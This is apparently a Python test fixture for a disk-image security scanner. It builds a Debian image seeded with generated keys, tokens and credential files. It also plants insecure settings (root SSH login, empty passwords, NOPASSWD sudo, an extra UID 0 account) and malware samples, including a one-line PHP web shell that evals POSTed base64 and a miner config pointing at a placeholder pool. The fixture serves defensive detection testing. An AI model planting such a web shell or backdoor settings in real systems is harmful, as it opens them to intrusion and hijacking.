"""A debootstrapped Debian with every kind of leak and weakness ``vmguard scan`` must find.

Root on ext4, /home on XFS (as the issue asks), one key deleted from each after building.
Keys come from the real tools (openssl, ssh-keygen, puttygen) or ``cryptography``; tokens
are generated in their vendors' formats (GitHub's with a valid checksum). ``EXPECTED`` lists
(rule id, guest path) pairs the scan must report.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import secrets
import shutil
import string
import subprocess
from pathlib import Path

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa

from vmguard.checks.secrets.validators import github_checksum
from vmguard.demo.imagebuild import (
    LINUX_TYPE,
    MiB,
    PartitionSpec,
    assemble_gpt,
    make_ext4,
    make_xfs,
)

ROOT_UUID = "11111111-2222-4333-8444-555555555555"
HOME_PARTUUID = "66666666-7777-4888-9999-aaaaaaaaaaaa"

EXPECTED: list[tuple[str, str]] = [
    ("secret.private-key", "/root/.ssh/id_rsa"),
    ("secret.private-key", "/opt/app/tls/server.key"),
    ("secret.private-key", "/opt/app/tls/ec.pem"),
    ("secret.private-key", "/home/alice/.ssh/id_ed25519"),
    ("secret.private-key", "/home/alice/deploy.pem"),
    ("secret.putty-key", "/home/alice/putty.ppk"),
    ("secret.aws-access-key", "/home/alice/.aws/credentials"),
    ("secret.gcp-service-account", "/opt/app/gcp-sa.json"),
    ("secret.azure-storage-key", "/opt/app/appsettings.json"),
    ("secret.azure-client-secret", "/opt/app/appsettings.json"),
    ("secret.github-token", "/opt/app/.env"),
    ("secret.gitlab-token", "/opt/app/.env"),
    ("secret.slack-token", "/opt/app/.env"),
    ("secret.stripe-key", "/opt/app/.env"),
    ("secret.jwt", "/opt/app/config.yaml"),
    ("secret.bearer-token", "/etc/app/client.conf"),
    ("secret.credential-file", "/root/.pgpass"),
    ("secret.credential-file", "/root/.netrc"),
    ("secret.credential-file", "/home/alice/.git-credentials"),
    ("secret.credential-file", "/root/.my.cnf"),
    ("secret.credential-file", "/root/.docker/config.json"),
    ("secret.credential-file", "/root/.kube/config"),
    ("secret.credential-file", "/etc/NetworkManager/system-connections/office.nmconnection"),
    ("secret.credential-file", "/etc/wpa_supplicant/wpa_supplicant.conf"),
    ("secret.history", "/root/.bash_history"),
    ("secret.history", "/home/alice/.psql_history"),
    ("secret.history", "/root/.mysql_history"),
    ("secret.cloud-init-password", "/var/lib/cloud/seed/nocloud/user-data"),
    ("ssh.authorized-key-leftover", "/root/.ssh/authorized_keys"),
    ("ssh.host-key-baked", "/etc/ssh/ssh_host_ed25519_key"),
    ("ssh.host-key-baked", "/etc/ssh/ssh_host_rsa_key"),
    ("account.empty-password", "/etc/shadow"),
    ("account.weak-hash", "/etc/shadow"),
    ("account.guessable-password", "/etc/shadow"),
    ("account.extra-uid0", "/etc/passwd"),
    ("ssh.root-login", "/etc/ssh/sshd_config.d/10-builder.conf"),
    ("ssh.password-authentication", "/etc/ssh/sshd_config"),
    ("ssh.empty-passwords", "/etc/ssh/sshd_config.d/10-builder.conf"),
    ("sudo.nopasswd-all", "/etc/sudoers.d/90-builder"),
    ("fs.world-writable", "/etc/cron.d/cleanup"),
    ("fs.unexpected-suid", "/usr/local/bin/rootshell"),
    ("malware.eicar", "/tmp/eicar.com"),
    ("malware.miner-config", "/opt/.cache/config.json"),
    ("malware.miner-pool", "/opt/.cache/config.json"),
    ("malware.webshell-php", "/var/www/html/up.php"),
    ("malware.rootkit-path", "/usr/lib/libprocesshider.so"),
]
DELETED_ROOT_KEY = "/root/old_deploy_key.pem"
DELETED_HOME_KEY = "alice/old_id_rsa"


def _w(path: Path, text: str | bytes, mode: int = 0o644, owner: tuple[int, int] = (0, 0)) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    os.chmod(path, mode)
    os.chown(path, *owner)


def _run(*cmd: str | Path) -> bytes:
    return subprocess.run([str(c) for c in cmd], check=True, capture_output=True).stdout


def _token(n: int, alphabet: str = string.ascii_letters + string.digits) -> str:
    return "".join(secrets.choice(alphabet) for _ in range(n))


def github_token() -> str:
    """A GitHub classic token in the real format, with a valid checksum."""
    random_part = _token(30)
    return f"ghp_{random_part}{github_checksum(random_part)}"


def _rsa_pem(bits: int = 2048) -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=bits)
    return key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()


def _jwt() -> str:
    def b64(obj: dict[str, object]) -> str:
        return base64.urlsafe_b64encode(json.dumps(obj).encode()).decode().rstrip("=")

    body = b64({"alg": "HS256", "typ": "JWT"}) + "." + b64({"sub": "svc-deploy", "iat": 1790000000})
    sig = base64.urlsafe_b64encode(hashlib.sha256(body.encode()).digest()).decode().rstrip("=")
    return f"{body}.{sig}"


def plant(root: Path, home: Path, work: Path) -> dict[str, str]:
    """Write every planted item into the trees; returns the raw secrets (for redaction tests)."""
    raw: dict[str, str] = {}
    alice = (1000, 1000)
    # keys made by the real tools
    _run(
        "ssh-keygen", "-q", "-t", "rsa", "-b", "2048", "-N", "", "-m", "PEM", "-f", work / "id_rsa"
    )
    _w(root / "root/.ssh/id_rsa", (work / "id_rsa").read_bytes(), 0o600)
    _run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", work / "id_ed25519")
    _w(home / "alice/.ssh/id_ed25519", (work / "id_ed25519").read_bytes(), 0o600, alice)
    _w(root / "root/.ssh/authorized_keys", (work / "id_ed25519.pub").read_bytes(), 0o600)
    _w(
        root / "opt/app/tls/server.key",
        _run("openssl", "genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:2048"),
        0o600,
    )
    ec_key = ec.generate_private_key(ec.SECP256R1()).private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.TraditionalOpenSSL,
        serialization.NoEncryption(),
    )
    _w(root / "opt/app/tls/ec.pem", ec_key, 0o600)
    _w(home / "alice/deploy.pem", _rsa_pem(), 0o600, alice)
    _w(
        home / "alice/encrypted.pem",
        _run(
            "openssl", "genpkey", "-algorithm", "ed25519", "-aes256", "-pass", "pass:hunter2hunter2"
        ),
        0o600,
        alice,
    )
    _run(
        "puttygen", "-q", "-t", "ed25519", "-o", work / "putty.ppk", "--new-passphrase", "/dev/null"
    )
    _w(home / "alice/putty.ppk", (work / "putty.ppk").read_bytes(), 0o600, alice)
    for kind in ("rsa", "ed25519"):
        _run("ssh-keygen", "-q", "-t", kind, "-N", "", "-f", work / f"ssh_host_{kind}_key")
        _w(
            root / f"etc/ssh/ssh_host_{kind}_key",
            (work / f"ssh_host_{kind}_key").read_bytes(),
            0o600,
        )
    # cloud and vendor credentials
    akid = "AKIA" + _token(16, string.ascii_uppercase + "234567")
    aws_secret = _token(40, string.ascii_letters + string.digits + "+/")
    raw["aws"] = aws_secret
    _w(
        home / "alice/.aws/credentials",
        f"[default]\naws_access_key_id = {akid}\naws_secret_access_key = {aws_secret}\n",
        0o600,
        alice,
    )
    sa_key = _rsa_pem()
    _w(
        root / "opt/app/gcp-sa.json",
        json.dumps(
            {
                "type": "service_account",
                "project_id": "vmguard-demo",
                "private_key_id": _token(40),
                "private_key": sa_key,
                "client_email": "deployer@vmguard-demo.iam.gserviceaccount.com",
                "client_id": "1" + _token(20, string.digits),
                "token_uri": "https://oauth2.googleapis.com/token",
            },
            indent=2,
        ),
    )
    storage_key = base64.b64encode(secrets.token_bytes(64)).decode()
    client_secret = _token(3) + "8Q~" + _token(34, string.ascii_letters + string.digits + "_~.-")
    raw["azure"] = storage_key
    _w(
        root / "opt/app/appsettings.json",
        json.dumps(
            {
                "Storage": "DefaultEndpointsProtocol=https;AccountName=vmg;"
                f"AccountKey={storage_key};",
                "AzureAd": {"ClientSecret": client_secret},
            },
            indent=2,
        ),
    )
    gh = github_token()
    raw["github"] = gh
    _w(
        root / "opt/app/.env",
        f"GITHUB_TOKEN={gh}\nGITLAB_TOKEN=glpat-{_token(20)}\n"
        f"SLACK_BOT_TOKEN=xoxb-{_token(12, string.digits)}-{_token(13, string.digits)}-"
        f"{_token(24)}\n"
        f"STRIPE_KEY=sk_live_{_token(32)}\n",
    )
    _w(root / "opt/app/config.yaml", f"auth:\n  service_jwt: {_jwt()}\n")
    _w(root / "etc/app/client.conf", f"header = Authorization: Bearer {_token(40)}\n")
    # credential files
    pg = _token(16)
    raw["pgpass"] = pg
    _w(root / "root/.pgpass", f"db.internal:5432:*:app:{pg}\n", 0o600)
    _w(root / "root/.netrc", f"machine ftp.internal login deploy password {_token(14)}\n", 0o600)
    _w(
        home / "alice/.git-credentials",
        f"https://alice:{_token(20)}@git.internal.example\n",
        0o600,
        alice,
    )
    _w(root / "root/.my.cnf", f"[client]\nuser=root\npassword={_token(14)}\n", 0o600)
    docker_auth = base64.b64encode(f"ci:{_token(24)}".encode()).decode()
    _w(
        root / "root/.docker/config.json",
        json.dumps({"auths": {"registry.internal": {"auth": docker_auth}}}),
    )
    _w(
        root / "root/.kube/config",
        "apiVersion: v1\nkind: Config\nusers:\n- name: admin\n  user:\n"
        f"    client-key-data: {base64.b64encode(_rsa_pem().encode()).decode()}\n",
    )
    _w(
        root / "etc/NetworkManager/system-connections/office.nmconnection",
        f"[connection]\nid=office\ntype=wifi\n[wifi-security]\nkey-mgmt=wpa-psk\npsk={_token(16)}\n",
        0o600,
    )
    _w(
        root / "etc/wpa_supplicant/wpa_supplicant.conf",
        f'network={{\n  ssid="lab"\n  psk="{_token(18)}"\n}}\n',
        0o600,
    )
    # histories and cloud-init
    _w(
        root / "root/.bash_history",
        f"ls\nmysql -h db -u root -p{_token(12)} app\nexport PGPASSWORD={_token(12)}\n",
        0o600,
    )
    _w(
        home / "alice/.psql_history",
        f"\\password\nALTER USER app PASSWORD 'x';\n\\! PGPASSWORD={_token(12)} psql\n",
        0o600,
        alice,
    )
    _w(
        root / "root/.mysql_history",
        f"SET PASSWORD = 'x';\n\\! mysqladmin -u root --password={_token(12)} status\n",
        0o600,
    )
    _w(
        root / "var/lib/cloud/seed/nocloud/user-data",
        f"#cloud-config\npassword: {_token(12)}\nchpasswd:\n  expire: false\n  list: |\n"
        f"    ubuntu:{_token(12)}\n",
    )
    # weak configuration
    _w(
        root / "etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin no\nPermitEmptyPasswords no\n",
    )
    _w(
        root / "etc/ssh/sshd_config.d/10-builder.conf",
        "PermitRootLogin yes\nPermitEmptyPasswords yes\n",
    )
    _w(root / "etc/sudoers.d/90-builder", "builder ALL=(ALL:ALL) NOPASSWD: ALL\n", 0o440)
    _w(root / "etc/cron.d/cleanup", "0 * * * * root /usr/local/bin/cleanup\n", 0o666)
    shutil.copy(root / "usr/bin/true", root / "usr/local/bin/rootshell")
    os.chmod(root / "usr/local/bin/rootshell", 0o4755)
    md5 = _run("openssl", "passwd", "-1", "-salt", "abcdefgh", "letmein").decode().strip()
    sha = _run("openssl", "passwd", "-6", "-salt", "saltsaltsalt", "backup1").decode().strip()
    with open(root / "etc/passwd", "a") as f:
        f.write(
            "toor:x:0:0::/root:/bin/sh\nlegacy:x:1002:1002::/home/legacy:/bin/sh\n"
            "nopass:x:1003:1003::/home/nopass:/bin/sh\nbackup:x:1004:1004::/home/backup:/bin/sh\n"
        )
    with open(root / "etc/shadow", "a") as f:
        f.write(
            f"toor:!:20000::::::\nlegacy:{md5}:20000::::::\nnopass::20000::::::\n"
            f"backup:{sha}:20000::::::\n"
        )
    # malware
    _w(
        root / "tmp/eicar.com",
        r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    )
    _w(
        root / "opt/.cache/config.json",
        json.dumps(
            {
                "donate-level": 1,
                "pools": [{"url": "stratum+tcp://pool.minexmr.example:4444", "user": "4A"}],
            }
        ),
    )
    _w(root / "var/www/html/up.php", "<?php @eval(base64_decode($_POST['x'])); ?>\n")
    shutil.copy(root / "usr/bin/true", root / "usr/lib/libprocesshider.so")
    return raw


def delete_after_build(root_img: Path, home_img: Path, work: Path) -> None:
    """Write a key into each filesystem after it was built, then delete it (it stays in free
    space): debugfs on ext4; on XFS the key's bytes go into a free extent directly."""
    key = work / "old.pem"
    key.write_text(_rsa_pem())
    _run("debugfs", "-w", "-R", f"write {key} {DELETED_ROOT_KEY}", root_img)
    _run("debugfs", "-w", "-R", f"rm {DELETED_ROOT_KEY}", root_img)
    # XFS has no offline delete tool: put the bytes where the free-space tree says nothing is.
    out = _run(
        "xfs_db",
        "-r",
        "-c",
        "agf 0",
        "-c",
        "p bnoroot",
        "-c",
        "sb 0",
        "-c",
        "p blocksize",
        home_img,
    ).decode()
    block_size = int(out.split("blocksize = ")[1].split()[0])
    agblocks = int(
        _run("xfs_db", "-r", "-c", "sb 0", "-c", "p agblocks", home_img).decode().split("=")[1]
    )
    target = (agblocks - 64) * block_size  # end of AG 0: free in a fresh filesystem
    with open(home_img, "r+b") as f:
        f.seek(target)
        f.write(b"leftover from " + DELETED_HOME_KEY.encode() + b"\n" + _rsa_pem().encode())


def build_planted_disk(work: Path, rootfs: Path) -> tuple[Path, dict[str, str]]:
    """The planted GPT disk (raw) built from a copy of ``rootfs``."""
    root, home = work / "root", work / "home"
    root.mkdir()
    _run("cp", "-a", f"{rootfs}/.", root)
    (root / "etc/hostname").write_text("planted\n")
    (root / "etc/fstab").write_text(
        f"UUID={ROOT_UUID} / ext4 defaults 0 1\nPARTUUID={HOME_PARTUUID} /home xfs defaults 0 2\n"
    )
    _run("useradd", "-R", root, "-m", "-s", "/bin/bash", "-u", "1000", "alice")
    shutil.move(str(root / "home"), home)
    (root / "home").mkdir()
    raw = plant(root, home, work)
    root_img, home_img = work / "root.img", work / "home.img"
    make_ext4(root_img, root, 640 * MiB, label="root", fs_uuid=ROOT_UUID)
    make_xfs(
        home_img, home, 320 * MiB, label="home", fs_uuid="77777777-8888-4999-aaaa-bbbbbbbbbbbb"
    )
    delete_after_build(root_img, home_img, work)
    disk = work / "planted.raw"
    assemble_gpt(
        disk,
        [
            PartitionSpec(root_img, LINUX_TYPE, "12121212-3434-4565-8787-909090909090", "root"),
            PartitionSpec(home_img, LINUX_TYPE, HOME_PARTUUID, "home"),
        ],
        disk_guid="abababab-cdcd-4efe-8f8f-010101010101",
    )
    root_img.unlink()
    home_img.unlink()
    (work / "secrets.json").write_text(json.dumps(raw))
    return disk, raw
